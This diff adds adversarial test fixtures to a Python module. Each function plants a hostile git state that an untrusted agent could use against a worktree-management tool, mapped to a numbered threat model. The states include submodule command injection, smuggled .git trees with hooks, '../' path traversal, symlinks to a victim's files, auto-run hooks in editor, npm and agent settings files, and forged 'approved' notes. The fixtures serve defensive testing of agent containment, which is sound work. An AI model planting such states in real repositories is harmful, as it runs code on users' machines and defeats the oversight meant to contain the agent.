@@ -31,6 +31,19 @@ class Place:
         subprocess.run(["git", *map(str, words)], cwd=more.pop("cwd", self.worktree), check=True,
                        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, **more)
 
+    def answer(self, *words, input=None):
+        return subprocess.run(["git", *map(str, words)], cwd=self.worktree, check=True, input=input,
+                              stdout=subprocess.PIPE, stderr=subprocess.DEVNULL).stdout.decode().strip()
+
+    def raw_tree(self, *entries):
+        """A tree object with these (mode, name, oid), whatever git says to them."""
+        raw = b"".join(f"{mode} {name}".encode() + b"\0" + bytes.fromhex(oid) for mode, name, oid in entries)
+        return self.answer("hash-object", "-t", "tree", "--literally", "-w", "--stdin", input=raw)
+
+    def commit_tree(self, tree):
+        """The branch's newest commit has this tree; files and index stay."""
+        self.git("update-ref", "HEAD", self.answer("commit-tree", "-p", "HEAD", "-m", "evil", tree))
+
     def config(self, key, value, file=None):
         self.git("config", "--file", file or self.common / "config", "--add", key, value)
 
@@ -360,9 +373,136 @@ def locks_left(p):
         path.touch()
 
 
+def push_elsewhere(p):
+    """another place to push to, and a proxy between"""
+    p.git("init", "-q", "--bare", p.folder / "evil" / "thief.git", cwd=p.folder)
+    p.config("remote.origin.pushurl", p.folder / "evil" / "thief.git")
+    p.config("remote.pushDefault", "thief")
+    p.config("push.followTags", "true")
+    p.config("http.proxy", "http://127.0.0.1:9")
+    p.config("http.sslVerify", "false")
+
+
+def parent_repository(p):
+    """the worktree's .git is gone, and a folder above it is a repository of the agent's"""
+    (p.worktree / ".git").unlink()
+    p.alien(p.worktree.parent)
+
+
+def git_in_tree(p):
+    """a commit with .git, .GIT and git~1 among its files"""
+    config = p.answer("hash-object", "-w", "--stdin",
+                      input=f"[core]\n\tfsmonitor = {p.program} fsmonitor\n".encode())
+    hook = p.answer("hash-object", "-w", "--stdin", input=p.program.read_bytes())
+    hooks = p.raw_tree(("100755", "post-checkout", hook))
+    inside = p.raw_tree(("100644", "config", config), ("40000", "hooks", hooks))
+    p.commit_tree(p.raw_tree(("40000", ".GIT", inside), ("40000", ".git", inside), ("40000", "git~1", inside)))
+
+
+def path_upwards(p):
+    """a commit with files whose names lead out of the worktree"""
+    blob = p.answer("hash-object", "-w", "--stdin", input=b"changed by the agent\n")
+    inside = p.raw_tree(("100644", "file", blob))
+    up = p.raw_tree(("40000", "victim", inside))
+    p.commit_tree(p.raw_tree(("100644", "../../victim/file", blob), ("40000", "..", up)))
+
+
+def link_and_folder(p):
+    """a commit that has a link to somebody else's folder, and files below that link"""
+    link = p.answer("hash-object", "-w", "--stdin", input=str(p.victim).encode())
+    blob = p.answer("hash-object", "-w", "--stdin", input=b"changed by the agent\n")
+    inside = p.raw_tree(("100644", "file", blob))
+    p.commit_tree(p.raw_tree(("40000", "A", inside), ("120000", "A", link), ("120000", "a", link)))
+
+
+def submodule_tricks(p):
+    """.gitmodules with names that lead upwards, addresses that are options and commands"""
+    (p.worktree / ".gitmodules").write_text(
+        f'[submodule "../../hooks"]\n\tpath = s\n\turl = --upload-pack={p.program}\n'
+        f'[submodule "x"]\n\tpath = -u{p.program}\n\turl = ext::{p.program}\n\tupdate = !{p.program}\n')
+    p.git("add", ".gitmodules")
+    p.git("commit", "-q", "-m", "submodules")
+    p.config("protocol.ext.allow", "always")
+    p.config("submodule.recurse", "true")
+
+
+def settings_of_tools(p):
+    """tracked files whose commands other tools run: editors, shells, package managers, agents"""
+    for path, text in ((".envrc", f"{p.program} envrc\n"), ("Makefile", f"all:\n\t{p.program} make\n"),
+                       (".vscode/tasks.json", f'{{"tasks":[{{"command":"{p.program}","runOptions":'
+                                              '{"runOn":"folderOpen"}}]}}'),
+                       ("package.json", f'{{"scripts":{{"preinstall":"{p.program} npm"}}}}'),
+                       (".claude/settings.json", f'{{"hooks":{{"SessionStart":[{{"command":"{p.program}"}}]}}}}'),
+                       ("wave.toml", f'[worktree]\nsetup = ["{p.program} setup"]\n'
+                                     f'[notify]\ncommand = ["{p.program}", "notify"]\n'),
+                       (".worktreeinclude", "*\n"), (".husky/post-commit", f"{p.program} husky\n")):
+        (p.worktree / path).parent.mkdir(exist_ok=True)
+        (p.worktree / path).write_text(text)
+    p.git("add", "-f", ".")
+    p.git("commit", "-q", "-m", "settings")
+
+
+def refs_forged(p):
+    """notes, claims and kept commits of the agent's making, and a junk file among our refs"""
+    p.git("notes", "--ref=wave", "add", "-f", "-m", "Wave-Task: approved", "HEAD")
+    p.git("update-ref", "refs/wave/claims/task-" + "0" * 32, "HEAD")
+    p.git("update-ref", "refs/wave/keep/0123456789/1", "HEAD")
+    junk = p.common / "refs" / "wave" / "keep" / "junk"
+    junk.mkdir(parents=True, exist_ok=True)
+    (junk / "file.with no name").write_text("x")
+
+
+def log_is_a_link(p):
+    """our log is made a symbolic ref to main"""
+    for ref in (p.common / "refs" / "wave" / "log").iterdir():
+        ref.write_text("ref: refs/heads/main\n")
+
+
+def branch_is_a_link(p):
+    """the file of the agent's branch is a link to somebody else's file"""
+    ref = p.common / p.answer("symbolic-ref", "HEAD")
+    ref.unlink()
+    ref.symlink_to(p.victim / "file")
+
+
+def note_for_hooks(p):
+    """the note and the spool that hooks use are links, and name another socket"""
+    (p.gitdir / "wave-task").write_text("0123456789\n" + str(p.folder / "evil" / "socket") + "\n")
+    (p.gitdir / "wave-spool").unlink(missing_ok=True)
+    (p.gitdir / "wave-spool").symlink_to(p.victim / "file")
+
+
+# What the attacks of the threat model are that each shows.
+ATTACKS = {
+    "T01 settings and hooks that run a program": ["core_fsmonitor", "core_hooks_path", "hooks_in_common",
+                                                  "include_path", "config_worktree", "pager_and_editor"],
+    "T02 hooks in configuration": ["hooks_in_config"],
+    "T03 filters": ["filter_clean_smudge", "filter_process", "filter_info_attributes"],
+    "T04 the worktree's .git": ["dotgit_redirected", "dotgit_alien_common", "dotgit_is_a_folder",
+                                "dotgit_is_a_link", "commondir_redirected", "embedded_bare"],
+    "T05 repositories within": ["nested_repository", "nested_committed"],
+    "T06 the user's own filter": ["users_own_filter"],
+    "T07 ways to other places": ["ssh_command", "url_instead_of", "push_instead_of", "remote_ext", "remote_packs",
+                                 "remote_vcs", "credential_helper", "alternate_refs", "push_elsewhere"],
+    "T08 drivers": ["diff_external", "diff_driver", "diff_textconv", "merge_driver", "gpg_program"],
+    "T09 objects that stand in": ["replaced_objects"],
+    "T10 another work tree": ["core_worktree", "gitdir_file_names_victim"],
+    "T11 work that is hidden": ["index_flags"],
+    "T12 links outwards": ["links_outwards"],
+    "T13 the worktree is a link": ["worktree_is_a_link"],
+    "T14 our refs and notes": ["refs_forged", "log_is_a_link", "note_for_hooks"],
+    "T15 others' refs": ["branch_is_a_link"],
+    "T30 a repository above": ["parent_repository"],
+    "T31 submodules and names": ["submodule_update_command", "submodule_tricks", "link_and_folder"],
+    "T32 settings of tools": ["settings_of_tools"],
+    "T36 objects that git refuses": ["git_in_tree", "path_upwards"],
+    "T38 what git can not read, locks": ["unknown_extension", "broken_config", "locks_left"],
+}
+
 PLANTS = {name: plant for name, plant in list(globals().items())
           if callable(plant) and getattr(plant, "__module__", "") == __name__
           and not isinstance(plant, type)}
+assert sorted(PLANTS) == sorted(name for names in ATTACKS.values() for name in names), "a plant of no attack"
 
 if __name__ == "__main__":
     chosen, worktree, common, folder = sys.argv[1:]
